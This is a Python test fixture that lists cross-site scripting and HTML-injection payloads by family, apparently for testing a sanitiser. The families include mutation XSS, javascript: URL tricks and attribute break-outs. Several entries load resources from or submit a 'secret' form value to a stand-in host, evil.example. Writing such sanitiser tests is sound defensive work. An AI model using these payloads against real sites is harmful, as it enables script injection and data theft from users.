"""What strangers write into posts to make a page act: one list, by family.

Each sets ``window.broken``, asks a dialog, or asks another host. The families are those of the OWASP cheat sheet and
of mutation attacks that were published against sanitisers; the payloads are written for this test.
"""

B = "window.broken=1"
PAYLOADS = {
    "script": [
        f"<script>{B}</script>",
        f"<SCRIPT SRC=data:text/javascript,{B}></SCRIPT>",
        f"<scr<script>ipt>{B}</scr</script>ipt>",
        f"<script\x0c>{B}</script\n>",
        f"<script>{B}//",
        f"<<script>{B};//<</script>",
    ],
    "handlers": [
        f"<img src=x onerror={B}>",
        f'<img src="x"onerror="{B}">',
        f"<img/src=x/onerror={B}>",
        f"<body onload={B}>",
        f"<details open ontoggle={B}>x</details>",
        f"<input autofocus onfocus={B}>",
        f"<marquee onstart={B}>x</marquee>",
        f"<video><source onerror={B}></video>",
        f"<a onmouseover={B} href=x>x</a>",
        f"<p onpointerenter={B} style=position:fixed;inset:0>x</p>",
    ],
    "svg": [
        f"<svg onload={B}>",
        f"<svg><script>{B}</script></svg>",
        f"<svg><animate onbegin={B} attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:{B}><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='1' onerror='{B}'/></svg>#x\">",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{B}</script>'></foreignObject></svg>",
    ],
    "mathml": [
        f'<math><a xlink:href="javascript:{B}">x</a></math>',
        f'<math href="javascript:{B}">x</math>',
        f'<math><mtext><img src=x onerror="{B}"></mtext></math>',
        f'<math><maction actiontype="statusline#http://x" xlink:href="javascript:{B}">x</maction></math>',
    ],
    "schemes": [
        f"[x](javascript:{B})",
        f"[x](JaVaScRiPt:{B})",
        f"[x](java&#x0A;script:{B})",
        f"[x](&#106;avascript:{B})",
        f"[x](\x01javascript:{B})",
        f"[x](vbscript:{B})",
        f"[x](data:text/html,<script>{B}</script>)",
        f"<javascript:{B}>",
        f'<a href="javascript&colon;{B}">x</a>',
        f'<a href="java\tscript:{B}">x</a>',
        f"![x](javascript:{B})",
        f'[x]: javascript:{B} "t"\n\n[x]',
    ],
    "srcset": [
        f'<img srcset="x 1x" onerror="{B}">',
        f'<picture><source srcset="x"><img onerror="{B}"></picture>',
        '<img srcset="https://evil.example/x.png 1x">',
        "![x](https://evil.example/x.png)",
    ],
    "style": [
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>*{background:url(https://evil.example/x)}</style>",
        '<p style="background:url(https://evil.example/x)">x</p>',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        f"<style><img src=x onerror={B}></style>",
    ],
    "form": [
        f'<form action="javascript:{B}"><button>x</button></form>',
        f'<form><button formaction="javascript:{B}">x</button></form>',
        f'<isindex action="javascript:{B}" type=submit>',
        '<form action="https://evil.example/"><input name=q value=secret autofocus></form>',
    ],
    "base": ['<base href="https://evil.example/">', f'<base href="javascript:{B}//">', '<base target="_top">'],
    "meta": [
        f'<meta http-equiv=refresh content="0;url=javascript:{B}">',
        '<meta http-equiv=refresh content="0;url=https://evil.example/">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    ],
    "frames": [
        f'<iframe srcdoc="<script>parent.{B}</script>"></iframe>',
        f'<iframe src="javascript:parent.{B}"></iframe>',
        f'<object data="javascript:{B}"></object>',
        f'<embed src="javascript:{B}">',
        '<iframe src="https://evil.example/"></iframe>',
    ],
    "template": [
        f"<template><script>{B}</script></template>",
        f"<template shadowrootmode=open><img src=x onerror={B}></template>",
        f"{{{{ constructor.constructor('{B}')() }}}}",
        f"<noscript><p title=\"</noscript><img src=x onerror={B}>\">",
    ],
    "mutation": [
        f'<noscript><style></noscript><img src=x onerror="{B}"></style>',
        f'<svg></p><style><a id="</style><img src=x onerror={B}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={B}>">',
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={B}>",
        f'<listing>&lt;img src=x onerror="{B}"&gt;</listing>',
        f"<xmp><p title=\"</xmp><img src=x onerror={B}>\"></xmp>",
        f"<!--><img src=x onerror={B}>-->",
        f"<![CDATA[><img src=x onerror={B}>]]>",
    ],
    "attribute break-out": [
        f'" onmouseover="{B}" x="',
        f"' onfocus='{B}' autofocus='",
        f'</textarea><img src=x onerror="{B}">',
        f'</title><script>{B}</script>',
        f"[x](https://a.example/\"onmouseover=\"{B})",
        f"```x\" onmouseover=\"{B}\ncode\n```",
        f"```html\n</code></pre><script>{B}</script>\n```",
        f"`</code><script>{B}</script>`",
        f"|a|\n|-|\n|<img src=x onerror={B}>|",
    ],
}  # fmt: skip
